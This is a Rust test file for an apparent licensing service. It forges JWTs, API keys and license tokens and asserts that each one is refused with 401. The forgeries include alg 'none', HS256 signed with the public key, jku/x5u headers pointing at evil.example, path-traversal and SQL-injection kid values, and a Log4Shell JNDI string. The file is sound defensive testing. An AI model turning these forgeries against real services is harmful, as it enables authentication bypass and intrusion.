//! Credentials that do not hold, shown to every operation: forged with what an attacker can know, and, to see that no
//! check hangs on another, with the issuers' own keys.
#![expect(clippy::unwrap_used, reason = "what is not there fails the test")]

use std::{fs, path::Path};

use data_encoding::{BASE64, BASE64URL_NOPAD};
use josekit::jws::{HS256, RS256, RS512};
use shared::domain::rate_limit::RateLimits;
use signet_local::{Folder, Options};
use signet_tests::{Client, Stack, Value, json, merged, text};

/// Signs a header and claims, whatever they say.
type Sign<'a> = &'a dyn Fn(&[u8]) -> Vec<u8>;

fn token(header: &Value, claims: &Value, sign: Sign) -> String {
    let encode = |value: &Value| BASE64URL_NOPAD.encode(value.to_string().as_bytes());
    let message = format!("{}.{}", encode(header), encode(claims));
    format!("{message}.{}", BASE64URL_NOPAD.encode(&sign(message.as_bytes())))
}

fn part(token: &str, index: usize) -> Value {
    let part = token.split('.').nth(index).unwrap();
    serde_json::from_slice(&BASE64URL_NOPAD.decode(part.as_bytes()).unwrap()).unwrap()
}

fn rsa(pem: &[u8]) -> impl Fn(&[u8]) -> Vec<u8> {
    let signer = RS256.signer_from_pem(pem).unwrap();
    move |message| josekit::jws::JwsSigner::sign(&signer, message).unwrap()
}

/// The public key as a secret, in each form that it is published in or that a library might take it in.
fn secrets(jwk: &Value) -> Vec<Vec<u8>> {
    let bytes = |name: &str| BASE64URL_NOPAD.decode(text(&jwk[name]).as_bytes()).unwrap();
    let number = |name: &str| openssl::bn::BigNum::from_slice(&bytes(name)).unwrap();
    let key = openssl::rsa::Rsa::from_public_components(number("n"), number("e")).unwrap();
    vec![
        bytes("n"),
        text(&jwk["n"]).as_bytes().to_vec(),
        jwk.to_string().into_bytes(),
        key.public_key_to_pem().unwrap(),
        key.public_key_to_pem_pkcs1().unwrap(),
        key.public_key_to_der().unwrap(),
        BASE64.encode(&key.public_key_to_der().unwrap()).into_bytes(),
    ]
}

/// Tokens that do not hold, made of one that does: what is wrong with each, and the token. `own` is the issuer's own key.
fn forgeries(good: &str, jwk: &Value, own: &[u8]) -> Vec<(String, String)> {
    let (header, claims) = (part(good, 0), part(good, 1));
    let [head, body, signature] = good.split('.').collect::<Vec<_>>()[..] else { panic!("no JWS") };
    let foreign = openssl::rsa::Rsa::generate(2048).unwrap().private_key_to_pem().unwrap();
    let (own_key, foreign_key) = (rsa(own), rsa(&foreign));
    let mut all: Vec<(String, String)> = Vec::new();
    let mut add = |what: &str, token: String| all.push((what.to_owned(), token));
    let with = |more: Value| merged(header.clone(), &more);

    for alg in ["none", "None", "NONE", "nOnE", ""] {
        add(alg, token(&with(json!({"alg": alg})), &claims, &|_| Vec::new()));
        add(alg, token(&json!({"alg": alg}), &claims, &|_| Vec::new()));
    }
    for secret in secrets(jwk) {
        let Ok(signer) = HS256.signer_from_bytes(&secret) else { continue };
        let sign = move |message: &[u8]| josekit::jws::JwsSigner::sign(&signer, message).unwrap();
        add("HS256 with the public key", token(&with(json!({"alg": "HS256"})), &claims, &sign));
    }
    add("another's key", token(&header, &claims, &foreign_key));
    add("another's key, in the header", token(&with(json!({"jwk": jwk})), &claims, &foreign_key));
    add("a key from elsewhere", token(&with(json!({"jku": "https://evil.example/keys"})), &claims, &own_key));
    add("a certificate from elsewhere", token(&with(json!({"x5u": "https://evil.example/cert"})), &claims, &own_key));
    add("a critical header", token(&with(json!({"crit": ["exp"]})), &claims, &own_key));
    add("a critical header of its own", token(&with(json!({"crit": ["b64"], "b64": false})), &claims, &own_key));
    add("a certificate", token(&with(json!({"x5c": ["MIIB"]})), &claims, &own_key));
    add("its own key, in the header", token(&with(json!({"jwk": jwk})), &claims, &own_key));
    add("no critical header", token(&with(json!({"crit": []})), &claims, &own_key));
    add("an unknown key", token(&with(json!({"kid": "made up"})), &claims, &own_key));
    for kid in ["", "../../etc/passwd", "' OR 1=1", "\0", &"k".repeat(5000)] {
        add("an odd kid", token(&with(json!({"kid": kid})), &claims, &own_key));
    }
    add("a kid that is a number", token(&with(json!({"kid": 5})), &claims, &own_key));
    add("another type", token(&with(json!({"typ": "logout+jwt"})), &claims, &own_key));
    let signer = RS512.signer_from_pem(own).unwrap();
    let rs512 = move |message: &[u8]| josekit::jws::JwsSigner::sign(&signer, message).unwrap();
    add("RS512", token(&with(json!({"alg": "RS512"})), &claims, &rs512));
    add("RS512 under the name of RS256", token(&header, &claims, &rs512));
    let ps256 = |message: &[u8]| {
        let key = openssl::pkey::PKey::private_key_from_pem(own).unwrap();
        let mut signer = openssl::sign::Signer::new(openssl::hash::MessageDigest::sha256(), &key).unwrap();
        signer.set_rsa_padding(openssl::rsa::Padding::PKCS1_PSS).unwrap();
        signer.sign_oneshot_to_vec(message).unwrap()
    };
    add("PS256 under the name of RS256", token(&header, &claims, &ps256));

    add("no signature", format!("{head}.{body}."));
    add("no signature and no dot", format!("{head}.{body}"));
    add("a signature cut short", good[..good.len() - 4].to_owned());
    add("a signature of zeros", format!("{head}.{body}.{}", BASE64URL_NOPAD.encode(&[0; 256])));
    add("a signature too many", format!("{good}.{signature}"));
    add("padding", format!("{good}=="));
    add("a line break", format!("{head}\n.{body}.{signature}"));
    for (before, after) in [(" ", ""), ("", " "), ("\t", ""), ("", "\r\n"), ("=", ""), ("", "=")] {
        add("space or padding in the claims", format!("{head}.{before}{body}{after}.{signature}"));
    }
    add("the JSON form", json!({"protected": head, "payload": body, "signature": signature}).to_string());
    let parts = json!({"payload": body, "signatures": [{"protected": head, "signature": signature}]});
    add("the general JSON form", parts.to_string());
    for again in [r#""alg":"RS256","#, r#""alg":"none","#, r#""kid":"x","#, r#""typ":"JWT","#] {
        let twice = BASE64URL_NOPAD.encode(header.to_string().replacen('{', &format!("{{{again}"), 1).as_bytes());
        let message = format!("{twice}.{body}");
        add("a header twice", format!("{message}.{}", BASE64URL_NOPAD.encode(&own_key(message.as_bytes()))));
    }
    add("another alphabet", good.replace('_', "/").replace('-', "+") + "+/");
    add("other claims", {
        let raised = merged(claims.clone(), &json!({"sub": "somebody else"}));
        format!("{head}.{}.{signature}", BASE64URL_NOPAD.encode(raised.to_string().as_bytes()))
    });
    add("encrypted", format!("{head}.{body}.{signature}.{signature}.{signature}"));
    for odd in [
        "",
        ".",
        "..",
        "...",
        "a.b.c",
        "null",
        "{}",
        "undefined",
        "Bearer",
        "eyJ",
        &".".repeat(20_000),
        &"a".repeat(8_000),
    ] {
        add("odd", odd.to_owned());
    }
    for wrong in [json!(null), json!([]), json!("a"), json!(5)] {
        add("claims that are none", token(&header, &wrong, &own_key));
    }
    add("a header that is a list", token(&json!(["RS256", header["typ"], header["kid"]]), &claims, &own_key));
    add("too long", token(&header, &merged(claims, &json!({"x": "x".repeat(40_000)})), &own_key));
    all
}

/// A header's value that reqwest would not send is no token that could be shown.
fn bearer(stack: &Stack, token: &str) -> Option<Client> {
    let value = format!("Bearer {token}");
    reqwest::header::HeaderValue::from_str(&value).ok()?;
    Some(stack.anonymous.with_header("authorization", &value))
}

/// What a key makes of what a token says.
fn rsa_signature(token: &str, pem: &[u8]) -> String {
    let (message, _) = token.rsplit_once('.').unwrap();
    BASE64URL_NOPAD.encode(&rsa(pem)(message.as_bytes()))
}

async fn with_keys(folder: &Folder) -> Stack {
    Stack::start_with(Options { data: Some(folder), rate_limits: RateLimits::NONE, ..Options::default() }).await
}

fn read(path: &Path) -> Vec<u8> {
    fs::read(path).unwrap()
}

/// Checks that each of these credentials is refused wherever one is needed, and changes nothing.
async fn refused_everywhere(stack: &Stack, credentials: &[(String, Client)]) {
    let operations = stack.operations().await;
    let before = stack.snapshot_items().await;
    for operation in operations.iter().filter(|operation| !operation.is_public()) {
        for (what, client) in credentials {
            let answer = operation.with_caller(client).send_valid().await;
            assert_eq!(answer.status, 401, "{what}: {} {}", answer.request, answer.text);
            answer.expect_problem(401, "unauthenticated");
        }
    }
    stack.assert_unchanged_since(&before).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn forged_bearer_tokens_401() {
    let path = tempfile::tempdir().unwrap();
    let folder = Folder::take(path.path()).unwrap();
    let stack = with_keys(&folder).await;
    let own = read(&folder.path().join("oidc-signing-key.pem"));
    let form = [("grant_type", "password"), ("client_id", "signet-dashboard"), ("username", "ada@example.com")];
    let form: Vec<_> = form.into_iter().chain([("password", "x"), ("scope", "openid email role:operator")]).collect();
    let tokens = stack.anonymous.send(reqwest::Method::POST, "/dev/oidc/token", |request| request.form(&form)).await;
    let good = text(&tokens.expect_status(200)["id_token"]).to_owned();
    bearer(&stack, &good).unwrap().get("customers").await.expect_status(200);
    let jwks = stack.anonymous.get("/dev/oidc/jwks.json").await.expect_status(200);

    let mut forged = forgeries(&good, &jwks["keys"][0], &own);
    let (header, claims, now) = (part(&good, 0), part(&good, 1), stack.clock.now().as_second());
    let signed = |claims: Value| token(&header, &claims, &rsa(&own));
    bearer(&stack, &signed(claims.clone())).unwrap().get("customers").await.expect_status(200);
    for (what, change) in [
        ("another audience", json!({"aud": "somebody-else"})),
        ("other audiences", json!({"aud": ["somebody-else", "signet"]})),
        ("the audience as an object", json!({"aud": {"signet-dashboard": true}})),
        ("no audience", json!({"aud": null})),
        ("another issuer", json!({"iss": "https://evil.example"})),
        ("an issuer that begins alike", json!({"iss": format!("{}.evil.example", text(&claims["iss"]))})),
        ("a slash more", json!({"iss": format!("{}/", text(&claims["iss"]))})),
        ("issuers", json!({"iss": [claims["iss"], "https://evil.example"]})),
        ("no issuer", json!({"iss": null})),
        ("expired", json!({"exp": now - 61})),
        ("expired for ever", json!({"exp": -1})),
        ("no end", json!({"exp": null})),
        ("an end in words", json!({"exp": "tomorrow"})),
        ("not yet", json!({"nbf": now + 3600})),
        ("a start in words", json!({"nbf": "yesterday"})),
        ("nobody", json!({"sub": ""})),
        ("no subject", json!({"sub": null})),
        ("a subject that is a number", json!({"sub": 5})),
        ("a subject with a control character", json!({"sub": "a\0b"})),
        ("bound to a key", json!({"cnf": {"jkt": "a"}})),
        ("a sign-out", json!({"events": {"http://schemas.openid.net/event/backchannel-logout": {}}})),
        ("to refresh", json!({"token_use": "refresh"})),
    ] {
        forged.push((what.to_owned(), signed(merged(claims.clone(), &change))));
    }
    let sold = stack.operator.issue_new_license(1).await;
    let activated = stack.anonymous.activate(&sold.license_key, "one").await.expect_status(201);
    for (what, token) in [
        ("a license token", &sold.issued["token"]),
        ("a machine's license token", &activated["token"]),
        ("a license key", &sold.issued["license_key"]),
        ("an API key", &json!(stack.local.operator_api_key.expose())),
    ] {
        forged.push((what.to_owned(), text(token).to_owned()));
    }
    let clients: Vec<_> =
        forged.iter().filter_map(|(what, token)| Some((what.clone(), bearer(&stack, token)?))).collect();
    assert!(clients.len() > 70, "{}", clients.len());
    refused_everywhere(&stack, &clients).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn api_keys_that_are_none_401() {
    let stack = Stack::start_without_rate_limits().await;
    let good = stack.local.operator_api_key.expose().to_owned();
    let (id, secret) = good.rsplit_once('_').unwrap();
    let sold = stack.operator.issue_new_license(1).await;
    let other = json!({"name": "ci", "scopes": ["*"]});
    let other = stack.operator.post("api-keys", other).await.expect_status(201);
    let other = text(&other["api_key"]).to_owned();
    let mut keys = vec![
        String::new(),
        id.to_owned(),
        secret.to_owned(),
        format!("{id}_"),
        format!("{id}_{}", "0".repeat(64)),
        format!("{id}_{}", secret.to_uppercase()),
        format!("{id}_{}", other.rsplit_once('_').unwrap().1),
        good[..good.len() - 1].to_owned(),
        format!("{good}0"),
        format!("{good}, {good}"),
        format!("{good}\t{good}"),
        format!("\"{good}\""),
        format!("Bearer {good}"),
        good.to_uppercase(),
        good.replace("signet_", "Signet_"),
        good.replace("signet_key_", "signet_"),
        "signet_".to_owned(),
        "*".to_owned(),
        "null".to_owned(),
        "' OR '1'='1".to_owned(),
        "${jndi:ldap://evil.example/a}".to_owned(),
        "../APIKEYS".to_owned(),
        "_".repeat(5000),
        "a".repeat(20_000),
        format!("signet_key_{}_{secret}", "0".repeat(26)),
        format!("signet_key_{}_{secret}", "Z".repeat(26)),
    ];
    keys.extend([&sold.license_key, &sold.license_id, text(&sold.issued["token"])].map(str::to_owned));
    let mut clients: Vec<_> =
        keys.iter().map(|key| (format!("{key:.80}"), stack.anonymous.with_header("x-api-key", key))).collect();
    for value in
        ["Basic YTpi", "Bearer", "Bearer ", "bearer  ", "Token a", "Digest x", &good, "Bearer\u{a0}a", "\"", ","]
    {
        clients.push((value.to_owned(), stack.anonymous.with_header("authorization", value)));
    }
    clients.push(("two credentials".to_owned(), stack.operator.with_header("authorization", "Bearer a.b.c")));
    refused_everywhere(&stack, &clients).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn forged_license_tokens_401() {
    let path = tempfile::tempdir().unwrap();
    let folder = Folder::take(path.path()).unwrap();
    let stack = with_keys(&folder).await;
    let sold = stack.operator.issue_new_license(2).await;
    let activated = stack.anonymous.activate(&sold.license_key, "one").await.expect_status(201);
    let good = text(&activated["token"]).to_owned();
    let activation = text(&activated["activation"]["id"]).to_owned();
    let keys: Vec<_> =
        fs::read_dir(folder.path().join("signing-keys")).unwrap().map(|file| read(&file.unwrap().path())).collect();
    let jwks = stack.anonymous.get("/.well-known/jwks.json").await.expect_status(200);
    let jwk = jwks["keys"].as_array().unwrap().iter().find(|key| key["kid"] == part(&good, 0)["kid"]).unwrap();
    let (header, claims) = (part(&good, 0), part(&good, 1));
    // RS256 is the same each time, so the key that signs is the one that signs so.
    let own = keys.iter().find(|pem| good.ends_with(&rsa_signature(&good, pem))).unwrap();
    let signed = |claims: &Value| token(&header, claims, &rsa(own));
    stack.anonymous.heartbeat(&signed(&claims), "one").await.expect_status(200);

    let mut forged = forgeries(&good, jwk, own);
    for (what, change) in [
        ("another issuer", json!({"iss": "https://evil.example"})),
        ("no issuer", json!({"iss": null})),
        ("no such license", json!({"sub": "lic_01JD8W0V5XK6Q3R7T2N4M8P9ZB"})),
        ("no license at all", json!({"sub": "cus_01JD8W0V5XK6Q3R7T2N4M8P9ZB"})),
        ("a subject that is a number", json!({"sub": 5})),
        ("a generation below zero", json!({"generation": -1})),
        ("a generation that is none", json!({"generation": 1.5})),
        ("an end in words", json!({"exp": "tomorrow"})),
    ] {
        forged.push((what.to_owned(), signed(&merged(claims.clone(), &change))));
    }
    for typ in [json!("JWT"), json!("at+jwt"), json!("jwk-set+jwt"), json!("LICENSE+JWT"), json!(null), json!(5)] {
        let header = merged(header.clone(), &json!({ "typ": typ }));
        forged.push((format!("of type {typ}"), token(&header, &claims, &rsa(own))));
    }
    let form = [("grant_type", "password"), ("client_id", "signet-dashboard"), ("username", "ada@example.com")];
    let form: Vec<_> = form.into_iter().chain([("password", "x"), ("scope", "openid role:operator")]).collect();
    let tokens = stack.anonymous.send(reqwest::Method::POST, "/dev/oidc/token", |request| request.form(&form)).await;
    let tokens = tokens.expect_status(200);
    for name in ["id_token", "access_token"] {
        forged.push((name.to_owned(), text(&tokens[name]).to_owned()));
    }
    // A header's value is trimmed; a field of a body is not.
    for (before, after) in [(" ", ""), ("", " "), ("", "\n"), ("=", "")] {
        forged.push(("space or padding around".to_owned(), format!("{before}{good}{after}")));
    }
    let set = stack.anonymous.get("/.well-known/jwks.jwt").await;
    assert_eq!(part(&set.text, 0)["typ"], "jwk-set+jwt");
    forged.push(("a signed set".to_owned(), set.text));
    // The root key lies beside the others.
    for other in keys.iter().filter(|pem| *pem != own) {
        forged.push(("by another key of this issuer".to_owned(), token(&header, &claims, &rsa(other))));
    }
    forged.push(("a license key".to_owned(), sold.license_key.clone()));
    forged.push(("an API key".to_owned(), stack.local.operator_api_key.expose().to_owned()));
    assert!(forged.len() > 60, "{}", forged.len());

    let before = stack.snapshot_items().await;
    for (what, token) in &forged {
        let machine = json!({"token": token, "machine_id": "one"});
        for (path, body) in [
            ("license-keys/heartbeat".to_owned(), machine.clone()),
            ("license-activations/activate".to_owned(), machine.clone()),
            (format!("license-activations/{activation}/deactivate"), json!({"token": token})),
        ] {
            let answer = stack.anonymous.post(&path, body).await;
            let is_elsewhere = what.starts_with("no ") && what.contains("license") && !path.ends_with("heartbeat");
            assert_eq!(
                answer.status,
                if is_elsewhere { answer.status } else { 401 },
                "{what}: {} {}",
                answer.request,
                answer.text
            );
            assert!(matches!(answer.status, 401 | 404), "{what}: {} {}", answer.request, answer.text);
        }
        let asked = stack.anonymous.post("license-keys/validate", machine).await.expect_status(200);
        assert!(matches!(text(&asked["code"]), "token_invalid" | "not_found"), "{what}: {asked}");
        assert_eq!((&asked["valid"], &asked["license"]), (&json!(false), &Value::Null), "{what}: {asked}");
    }
    stack.assert_unchanged_since(&before).await;
}
